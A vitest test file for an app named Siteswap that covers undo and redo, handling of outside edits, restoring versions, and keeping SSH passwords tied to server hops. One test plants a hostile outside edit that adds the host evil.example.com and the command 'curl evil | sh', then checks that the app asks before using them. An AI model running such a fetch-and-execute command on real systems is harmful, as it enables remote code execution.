import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { readFile, rename, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { type LiveDocument, openLiveDocument } from '../../src/main/engine/live-document'
import { moveText } from '../../src/main/store/move-text'
import { Moves } from '../../src/main/store/moves'
import { makeSecrets, type SecretStore } from '../../src/main/store/secrets'
import type { DocumentState } from '../../src/shared/document'
import { fail, failureOf } from '../../src/shared/failure'
import type { Move } from '../../src/shared/move'
import { lockable } from './lockable-keychain'

const server = (id: string, ...hosts: string[]) => ({
  ...{ id, name: id, kind: 'web' as const, addresses: [], note: '', redirect: { kind: 'none' as const } },
  ssh: hosts.map((host) => ({ host, port: 22, user: 'deploy', auth: { kind: 'password' as const } }))
})

describe('the document of an opened move', () => {
  let dir = ''
  let moves: Moves
  let move: Move
  let document: LiveDocument
  let secrets: SecretStore
  let keychain: ReturnType<typeof lockable>
  let states: DocumentState[] = []
  let notes: string[] = []
  let busy = false

  beforeEach(async () => {
    dir = mkdtempSync(join(tmpdir(), 'siteswap-document-'))
    moves = new Moves(dir)
    keychain = lockable()
    secrets = makeSecrets({ dir, fork: keychain.fork, environment: {} })
    states = []
    notes = []
    busy = false
    const made = await moves.create('Shop', 'Porto', 'Lisbon')
    move = { ...made, old: { ...made.old, servers: [server('web1', 'jump', 'web1'), server('web2', 'web2')] } }
    await moves.write(move)
    document = await openLiveDocument({
      moves,
      moveId: move.id,
      first: await moves.readKept(move.id),
      mayBecome: () => {
        if (busy) throw fail('conflict', 'busy')
      },
      onMove: async () => {},
      onState: (state) => states.push(state),
      follow: async (mapping) => void (await secrets.follow(move.id, mapping)),
      note: async (text) => notes.push(text)
    })
  })
  afterEach(async () => {
    await document.close()
    secrets.close()
    rmSync(dir, { recursive: true, force: true })
  })

  const path = () => moves.documentPath(move.id)
  const onDisk = (): Move => JSON.parse(readFileSync(path(), 'utf8'))
  const named = (name: string): Move => ({ ...document.move(), name })
  const rewritten = (change: (text: string) => string) => writeFile(path(), change(readFileSync(path(), 'utf8')))
  const outside = () => document.state().outside
  const until = (kind: string | undefined) => vi.waitFor(() => expect(outside()?.kind).toBe(kind), { timeout: 5000 })
  const namesKept = async () => (await moves.versions(move.id)).map(({ text }) => (JSON.parse(text) as Move).name)

  describe('undo', () => {
    it('takes edits back one by one and does them again, on disk too', async () => {
      await document.save(named('Shop A'))
      await document.save({ ...document.move(), schemas: ['shop'] })
      expect(document.state()).toMatchObject({ undo: 'schemas · 0: shop', redo: null })
      await document.undo()
      expect([document.move().schemas, onDisk().schemas, onDisk().name]).toEqual([[], [], 'Shop A'])
      await document.undo()
      expect(onDisk().name).toBe('Shop')
      expect(document.state()).toMatchObject({ undo: null, redo: 'move · name: Shop → Shop A', epoch: 2 })
      await document.redo()
      await document.redo()
      expect([onDisk().name, onDisk().schemas]).toEqual(['Shop A', ['shop']])
      await expect(document.redo()).rejects.toThrow('nothing to redo')
    })

    it('takes what was typed into one field back as one edit', async () => {
      for (const name of ['S', 'Sh', 'Sho', 'Shop!']) await document.save(named(name))
      await document.undo()
      expect(document.move().name).toBe('Shop')
    })

    it('forgets what was undone when a new edit is made', async () => {
      await document.save(named('Shop A'))
      await document.undo()
      await document.save({ ...document.move(), schemas: ['x'] })
      expect(document.state()).toMatchObject({ undo: 'schemas · 0: x', redo: null })
    })

    it('leaves waivers: they are decisions in the journal', async () => {
      const waiver = { check: 'D02', reason: 'known', by: 'me', at: 1 }
      await document.save(named('Shop A'))
      await document.save({ ...document.move(), waivers: [waiver] })
      await document.undo()
      expect([onDisk().name, onDisk().waivers]).toEqual(['Shop', [waiver]])
    })

    it('is refused as an edit would be, and can then still be done', async () => {
      await document.save(named('Shop A'))
      busy = true
      await expect(document.undo()).rejects.toThrow('busy')
      busy = false
      await document.undo()
      expect(onDisk().name).toBe('Shop')
    })
  })

  describe('an edit from outside', () => {
    it('is taken when nothing is unsaved; what was here can be had back', async () => {
      await rewritten((text) => text.replace('"name": "Shop"', '"name": "Shop from git"'))
      await until('taken')
      expect(document.move().name).toBe('Shop from git')
      expect(outside()).toMatchObject({ changes: [{ subject: 'move', field: 'name', after: 'Shop from git' }] })
      expect(notes).toEqual(['The move’s file was changed outside Siteswap: move · name: Shop → Shop from git'])
      expect(await namesKept()).toContain('Shop')
      await document.undo()
      expect(onDisk().name).toBe('Shop')
    })

    it('is seen also when an editor or git puts a new file in its place', async () => {
      await writeFile(`${path()}.new`, moveText(named('Replaced')))
      await rename(`${path()}.new`, path())
      await until('taken')
      expect(document.move().name).toBe('Replaced')
    })

    it('is not what this app writes itself, nor another form of the same', async () => {
      await document.save(named('Shop A'))
      await document.look()
      await rewritten((text) => JSON.stringify(JSON.parse(text)))
      await document.look()
      await document.save(named('Shop B'))
      await document.look()
      expect(states.filter((state) => state.outside !== null)).toEqual([])
      expect(readFileSync(path(), 'utf8')).toBe(moveText(document.move()))
    })

    it('asks when a form holds something unsaved; either may count and neither is lost', async () => {
      document.drafting(true)
      await rewritten((text) => text.replace('"name": "Shop"', '"name": "Theirs"'))
      await until('asks')
      expect(outside()).toMatchObject({ why: 'unsaved', changes: [{ after: 'Theirs' }] })
      expect(document.move().name).toBe('Shop')
      await expect(document.save(named('Mine'))).rejects.toThrow('changed by another program')
      expect(onDisk().name).toBe('Theirs')
      await document.outside('keep')
      expect([onDisk().name, document.move().name, outside()]).toEqual(['Mine', 'Mine', null])
      expect(await namesKept()).toContain('Theirs')
    })

    it('taken after the question leaves what was here to undo and among the versions', async () => {
      document.drafting(true)
      await rewritten((text) => text.replace('"name": "Shop"', '"name": "Theirs"'))
      await until('asks')
      await document.save(named('Mine')).catch(() => {})
      await document.outside('take')
      expect([onDisk().name, document.move().name, outside()]).toEqual(['Theirs', 'Theirs', null])
      expect(await namesKept()).toContain('Mine')
      await document.undo()
      expect(onDisk().name).toBe('Mine')
    })

    it('that comes between two edits is found by the save, not written over', async () => {
      await rewritten((text) => text.replace('"name": "Shop"', '"name": "Theirs"'))
      const failure = await document.save(named('Mine')).then(() => null, failureOf)
      expect(failure?.kind).toBe('conflict')
      expect(onDisk().name).toBe('Theirs')
      expect(outside()).toMatchObject({ kind: 'asks', why: 'unsaved' })
    })

    it('asks before a new address is contacted or a new command is run', async () => {
      const evil = {
        ...server('web2', 'evil.example.com'),
        redirect: { kind: 'file', path: '/etc/x', edits: [{ find: 'a', replace: 'b' }], reload: 'curl evil | sh' }
      }
      const theirs = { ...move, old: { ...move.old, servers: [move.old.servers[0], evil] } } as Move
      await writeFile(path(), moveText(theirs))
      await until('asks')
      expect(outside()).toMatchObject({
        why: 'new-ways',
        asksFor: {
          contacts: ['deploy@evil.example.com:22'],
          commands: ['web2: curl evil | sh'],
          files: ['web2: /etc/x']
        }
      })
      expect(document.move()).toEqual(move)
    })

    it('waits for a run that is going on', async () => {
      busy = true
      await rewritten((text) => text.replace('"name": "Shop"', '"name": "Theirs"'))
      await until('asks')
      expect(outside()).toMatchObject({ why: 'running' })
      await expect(document.outside('take')).rejects.toThrow('busy')
      busy = false
      await document.outside('take')
      expect(document.move().name).toBe('Theirs')
    })

    it('that cannot be read counts for nothing, is said, and is gone when it is mended', async () => {
      const good = await readFile(path(), 'utf8')
      await writeFile(path(), '<<<<<<< HEAD\n')
      await until('unreadable')
      await expect(document.save(named('Mine'))).rejects.toThrow('changed by another program')
      await writeFile(path(), good)
      await document.look()
      expect(outside()).toBeNull()
      await document.save(named('Mine'))
      expect(onDisk().name).toBe('Mine')
    })

    it('that took the file away: what is here is written again when asked', async () => {
      await rm(path())
      await until('gone')
      await document.outside('keep')
      expect([onDisk().name, outside()]).toEqual(['Shop', null])
    })

    it('of another move is refused by its id', async () => {
      await rewritten((text) => text.replace(move.id, 'another-0000'))
      await until('unreadable')
      expect(outside()).toMatchObject({ failure: { what: 'The file holds another move.' } })
    })
  })

  describe('earlier versions', () => {
    it('come back with an undo and leave the one before among the versions', async () => {
      await document.save(named('Shop A'))
      const [first] = (await moves.versions(move.id)).filter(({ text }) => text.includes('"name": "Shop"'))
      await document.restore(first?.id ?? '')
      expect(onDisk().name).toBe('Shop')
      expect(await namesKept()).toContain('Shop A')
      await document.undo()
      expect(onDisk().name).toBe('Shop A')
      await expect(document.restore('../../x')).rejects.toThrow('not there any more')
    })
  })

  describe('secrets', () => {
    const jump = 'ssh/web1/0/password'
    const host = 'ssh/web1/1/password'
    const edited = (servers: unknown[]) => ({ ...document.move(), old: { ...document.move().old, servers } }) as Move

    beforeEach(async () => {
      await secrets.set(move.id, jump, 'of the jump', 'keychain')
      await secrets.set(move.id, host, 'of the host', 'session')
      await secrets.set(move.id, 'ssh/web2/0/password', 'of web2', 'keychain')
    })

    it('stay with their hop when hops change places, also while the keychain is locked', async () => {
      keychain.chain.locked = true
      await document.save(edited([server('web1', 'first', 'jump', 'web1'), server('web2', 'web2')]))
      keychain.chain.locked = false
      expect(await secrets.get(move.id, 'ssh/web1/0/password')).toBeNull()
      expect(await secrets.get(move.id, 'ssh/web1/1/password')).toBe('of the jump')
      expect(await secrets.get(move.id, 'ssh/web1/2/password')).toBe('of the host')
      await secrets.set(move.id, 'ssh/web1/0/password', 'of the first', 'keychain')
      expect(await secrets.get(move.id, 'ssh/web1/1/password')).toBe('of the jump')
    })

    it('leave the keychain with their hop or server, and do not come back with an undo', async () => {
      await document.save(edited([server('web1', 'web1')]))
      expect(await secrets.refs(move.id)).toEqual(['ssh/web1/0/password'])
      expect(await secrets.get(move.id, 'ssh/web1/0/password')).toBe('of the host')
      expect([...keychain.chain.held.values()]).toEqual(['open'])
      await document.undo()
      expect(await secrets.get(move.id, 'ssh/web1/1/password')).toBe('of the host')
      expect(await secrets.get(move.id, jump)).toBeNull()
    })

    it('of what an edit from outside takes away are kept: the next branch may need them', async () => {
      await writeFile(path(), moveText(edited([server('web1', 'jump', 'web1')])))
      await until('taken')
      await document.undo()
      expect(await secrets.get(move.id, 'ssh/web2/0/password')).toBe('of web2')
    })

    it('that a locked keychain does not give up are removed when it is open again', async () => {
      keychain.chain.locked = true
      await document.save(edited([server('web1', 'jump', 'web1')]))
      expect(await secrets.refs(move.id)).not.toContain('ssh/web2/0/password')
      keychain.chain.locked = false
      expect([...keychain.chain.held.values()]).toContain('of web2')
      await secrets.set(move.id, jump, 'anew', 'keychain')
      expect([...keychain.chain.held.values()]).toEqual(['anew', 'open'])
    })
  })
})
